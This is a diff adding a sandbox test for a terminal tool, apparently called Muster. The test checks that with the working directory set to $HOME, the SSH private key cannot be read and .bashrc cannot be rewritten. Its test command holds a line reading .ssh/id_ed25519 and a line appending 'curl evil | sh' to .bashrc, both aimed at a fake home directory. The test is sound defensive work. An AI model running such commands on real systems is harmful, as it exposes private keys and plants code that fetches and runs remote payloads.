@@ -5,7 +5,7 @@
 // installs it, see .ci/run).
 import { suite } from "uvu";
 import * as assert from "uvu/assert";
-import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { randomUUID } from "node:crypto";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
@@ -71,6 +71,26 @@ t("Muster's data directory is hidden inside a cwd that contains it (the workspac
   assert.not.ok(existsSync(join(home, "planted")));
   assert.not.ok(existsSync(join(home, "muster.config.json")));
   assert.is(readFileSync(join(th.h.workspace, "w.txt"), "utf8"), "w\n", "the workspace inside it stays reachable");
+});
+
+t("with cwd = $HOME, its dot entries are masked: no credentials to read, no start-up file to rewrite", async ({ th }) => {
+  const home = scratch("muster-term-home-");
+  mkdirSync(join(home, ".ssh"));
+  writeFileSync(join(home, ".ssh", "id_ed25519"), "PRIVATE KEY");
+  writeFileSync(join(home, ".bashrc"), "# original\n");
+  const saved = process.env.HOME;
+  process.env.HOME = home; // os.homedir() follows HOME: the test's own $HOME, never the real one
+  try {
+    const res = await terminal(th.h, { command: "cat .ssh/id_ed25519; wc -c < .bashrc; echo 'curl evil | sh' >> .bashrc; echo rc=$?; echo mine > notes.md", cwd: home });
+    assert.is(res.status, 200, JSON.stringify(res.body));
+    assert.not.match(res.body.output, /PRIVATE KEY/);
+    assert.not.match(res.body.output, /rc=0/);
+    assert.is(readFileSync(join(home, ".bashrc"), "utf8"), "# original\n");
+    assert.is(readFileSync(join(home, "notes.md"), "utf8"), "mine\n", "the rest of $HOME is the writable cwd");
+  } finally {
+    process.env.HOME = saved;
+    rmSync(home, { recursive: true, force: true });
+  }
 });
 
 t("no network: the server's own port cannot be reached from inside", async ({ th, dir }) => {
